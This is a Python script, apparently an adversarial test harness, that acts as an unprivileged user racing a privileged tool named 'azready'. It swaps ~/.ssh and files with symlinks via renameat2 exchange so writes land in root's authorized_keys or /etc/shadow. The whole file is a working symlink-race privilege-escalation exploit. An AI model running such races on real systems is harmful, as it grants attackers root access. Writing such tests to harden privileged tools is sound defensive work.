"""A user who races against azready in his own home. usage: attacker.py HOME UID WAY; it runs until it is killed.

Its own names, relative to the home that it is in: it may not be able to reach that by its path.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import random
import shutil
import sys
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
HERE = -100  # AT_FDCWD
EXCHANGE = 2  # RENAME_EXCHANGE
KEYS = "authorized_keys"
# Behind the home: what a link in ~ or in ~/.ssh points to.
VICTIM = "../../root/.ssh"
LINKS = {
    KEYS: f"../{VICTIM}/{KEYS}",
    f".{KEYS}.azready": f"../{VICTIM}/{KEYS}",
    ".new": f"../{VICTIM}/{KEYS}",
    "x": "../../../etc/shadow",
}


def exchange(one: str, other: str) -> None:
    """Both names change places in one step; nothing where one of them is missing."""
    _libc.renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE)


def links_in(folder: str) -> None:
    """A directory of the user's in which every name that azready could write to leads elsewhere."""
    with contextlib.suppress(OSError):
        os.mkdir(folder)
    for name, target in LINKS.items():
        with contextlib.suppress(OSError):
            os.symlink(target, f"{folder}/{name}")


def forget(path: str) -> None:
    shutil.rmtree(path, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.unlink(path)


def real_folder() -> None:
    with contextlib.suppress(OSError):
        os.mkdir(".ssh")
    with contextlib.suppress(OSError):
        Path(f".ssh/{KEYS}").write_text("ssh-rsa mine\n")


def folder_for_link() -> None:
    """~/.ssh and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def folder_for_folder() -> None:
    """~/.ssh and a directory full of links change places all the time."""
    real_folder()
    links_in("other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def file_for_link() -> None:
    """The file and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(f"../{VICTIM}/{KEYS}", ".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")


def new_name() -> None:
    """Whatever appears in ~/.ssh, or ~/.ssh itself, is exchanged at once."""
    forget(".ssh") if random.random() < 0.3 else real_folder()
    links_in("other")
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "link")
    had = os.path.lexists(".ssh")
    for _ in range(3000):
        if not had and os.path.lexists(".ssh"):
            exchange(".ssh", "link")
            return
        with contextlib.suppress(OSError):
            for name in os.listdir(".ssh"):
                if name != KEYS:
                    exchange(f".ssh/{name}", "other" if os.path.isdir(f".ssh/{name}") else f"other/{KEYS}")
                    return


if __name__ == "__main__":
    os.chdir(sys.argv[1])
    os.setgroups([])
    os.setgid(int(sys.argv[2]))
    os.setuid(int(sys.argv[2]))
    way = globals()[sys.argv[3]]
    print("ready", flush=True)
    while True:
        way()
        if random.random() < 0.1:
            for name in os.listdir("."):
                forget(name)
